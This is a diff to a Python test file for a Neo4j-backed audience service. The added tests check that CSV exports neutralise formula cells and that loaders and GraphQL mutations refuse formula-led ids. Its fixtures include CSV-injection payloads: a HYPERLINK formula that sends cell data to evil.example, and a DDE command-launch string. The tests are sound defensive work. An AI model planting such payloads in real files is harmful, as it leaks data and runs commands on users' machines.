@@ -3,6 +3,8 @@
 7. Denial of service: audience definitions that nest relational conditions (each level multiplies the
    work by every member's ties), audience statements outside the API's transaction timeout, JSON
    nested deeply enough to crash the parser, attribute values Neo4j cannot hold.
+8. CSV injection: formula cells (``=HYPERLINK(...)``, ``@SUM(...)``) in exports, and ids that begin
+   with a formula lead on the way in (loaders, mutations).
 """
 
 from __future__ import annotations
@@ -246,3 +248,137 @@ def test_numbers_neo4j_cannot_hold_are_refused_in_definition_files(
         assert isinstance(done.exception, AudienceDefinitionError), (definition, done.exception)
         assert re.search(problem, str(done.exception)), done.exception
     get_settings.cache_clear()
+
+
+# 8. CSV injection -------------------------------------------------------------------------------------
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?leak="&A1, "Open")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+1+1",
+    "-1+1",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def test_audience_exports_write_formula_cells_as_text(
+    store: GraphStore, neo4j_env: dict[str, str], tmp_path: Path
+) -> None:
+    """Users whose city is a formula (free text the loader accepts), and ids stored before ids were
+    checked: `persona audience export` and export_csv's columns write each with a leading ' (OWASP)."""
+    import csv
+
+    from typer.testing import CliRunner
+
+    from cli.audience import audience_app
+    from graph.audiences.service import export_csv
+    from graph.settings import get_settings
+
+    store.driver.execute_query(
+        "UNWIND range(0, size($f) - 1) AS i "
+        "CREATE (:User {userId: $f[i], city: $f[i]}), (:User {userId: 'plain-' + toString(i), city: $f[i]})",
+        f=FORMULAS,
+    )
+    expected = {"'" + f for f in FORMULAS}
+    definition = tmp_path / "everyone.json"
+    definition.write_text(json.dumps({"attribute": {"field": "city", "op": "exists", "value": True}}))
+    get_settings.cache_clear()
+    out = tmp_path / "members.csv"
+    done = CliRunner().invoke(audience_app, ["export", str(definition), str(out), "--purpose", "analysis"])
+    get_settings.cache_clear()
+    assert done.exit_code == 0, done.output
+    with out.open(encoding="utf-8", newline="") as handle:
+        ids = [row[0] for row in csv.reader(handle)][1:]
+    assert expected <= set(ids), ids
+    assert not [i for i in ids if i[:1] in "=+-@\t\r"], ids
+
+    with_city = tmp_path / "with-city.csv"
+    export_csv(store, json.loads(definition.read_text()), with_city, purpose="analysis", columns=("city",))
+    with with_city.open(encoding="utf-8", newline="") as handle:
+        rows = list(csv.reader(handle))[1:]
+    assert {city for _, city in rows} == expected
+    assert sorted(i for i, _ in rows if i.startswith("plain-")) == [f"plain-{i}" for i in range(6)]
+
+
+def test_loaders_refuse_ids_that_begin_with_a_formula_lead(store: GraphStore, tmp_path: Path) -> None:
+    """Each refused row names its line, column and why; text that is not an id (a city, a search's
+    words) may still begin with one."""
+    import csv
+
+    from loaders.pipeline import LoadOptions, load_file
+
+    folder = tmp_path / "data"
+    folder.mkdir()
+    with (folder / "users.csv").open("w", encoding="utf-8", newline="") as handle:
+        writer = csv.writer(handle)
+        writer.writerow(["user_id", "city"])
+        writer.writerow(["u-fine", "-Shanghai"])
+        for formula in FORMULAS:
+            writer.writerow([formula, "Beijing"])
+    with (folder / "events.csv").open("w", encoding="utf-8", newline="") as handle:
+        writer = csv.writer(handle)
+        writer.writerow(["event_id", "user_id", "kind", "at", "target"])
+        writer.writerow(["e1", "u-fine", "search", "2025-01-01", "-sale +shoes"])
+        writer.writerow(["e2", "u-fine", "view", "2025-01-01", "=HYPERLINK(1)"])
+        writer.writerow(["@e3", "u-fine", "search", "2025-01-01", "shoes"])
+    options = LoadOptions(rejects_dir=tmp_path / "rejects")
+    users = load_file(store, folder / "users.csv", options=options)
+    events = load_file(store, folder / "events.csv", options=options)
+    assert (users.rejected, events.rejected) == (len(FORMULAS), 2), (users, events)
+    rejects = [
+        json.loads(line)
+        for name in ("users", "events")
+        for line in (tmp_path / "rejects" / f"{name}.jsonl").read_text(encoding="utf-8").splitlines()
+    ]
+    where = sorted((r["file"], r["line"], r["field"]) for r in rejects)
+    assert where[:2] == [("events.csv", 3, "target"), ("events.csv", 4, "event_id")]
+    # users.csv: lines 3 on, one per formula (a quoted carriage return counts as a line break)
+    assert [w[2] for w in where[2:]] == ["user_id"] * len(FORMULAS)
+    assert [w[1] for w in where[2:7]] == [3, 4, 5, 6, 7]
+    assert all(
+        "ids may not begin with =, +, -, @, a tab or a carriage return" in r["reason"] for r in rejects
+    )
+    found, _, _ = store.driver.execute_query("MATCH (u:User) RETURN u.userId AS id, u.city AS city")
+    assert [(r["id"], r["city"]) for r in found] == [("u-fine", "-Shanghai")]
+
+
+def test_mutations_refuse_ids_that_begin_with_a_formula_lead(
+    neo4j_connection: ConnectionInfo, store: GraphStore, tmp_path: Path
+) -> None:
+    from graph.tags.taxonomy import TagInputError, upsert_tag
+
+    store.driver.execute_query("CREATE (:User {userId: 'buyer'}), (:Product {sku: 'p1'})")
+    order = (
+        'mutation($o: ID!) { recordOrder(input: {orderId: $o, userId: "buyer", '
+        'orderedAt: "2025-01-01T00:00:00Z", lines: [{sku: "p1"}]}) { orderId } }'
+    )
+    event = (
+        'mutation($e: String) { recordEvent(input: {userId: "buyer", kind: VIEW, at: "2025-01-01T00:00:00Z", '
+        'target: "p1", eventId: $e}) { new } }'
+    )
+    keys = secured(tmp_path)
+    with client_of(keys, neo4j_connection, "service") as client:
+        gql = GraphQL(client)
+        for formula in FORMULAS:
+            upsert = gql.error("mutation($u: ID!) { upsertUser(input: {id: $u}) { id } }", {"u": formula})
+            assert upsert["extensions"]["code"] == "BAD_USER_INPUT", upsert
+            assert "ids may not begin with" in upsert["message"] and "user_id" in upsert["message"]
+            for refused in (gql.error(order, {"o": formula}), gql.error(event, {"e": formula})):
+                assert refused["extensions"]["code"] == "BAD_USER_INPUT", refused
+                assert "ids may not begin with" in refused["message"], refused
+            saved = gql.error(
+                'mutation($a: ID!) { saveAudience(id: $a, name: "n", definition: {tag: {tagId: "vip"}}, '
+                "purpose: ANALYSIS) { id } }",
+                {"a": formula},
+            )
+            assert saved["extensions"]["code"] == "BAD_USER_INPUT" and "ids may not begin" in saved["message"]
+        assert gql.data(order, {"o": "o-1"})["recordOrder"] == {"orderId": "o-1"}
+        assert gql.data(event, {"e": "e-1"})["recordEvent"] == {"new": True}
+    with pytest.raises(TagInputError, match="ids may not begin with"):
+        upsert_tag(store, tag_id="=cmd", name="x", tier="basic")
+    found, _, _ = store.driver.execute_query(
+        "MATCH (n) WHERE any(k IN ['userId', 'orderId', 'audienceId', 'tagId'] WHERE n[k] STARTS WITH '=') "
+        "RETURN count(n) AS n"
+    )
+    assert found[0]["n"] == 0
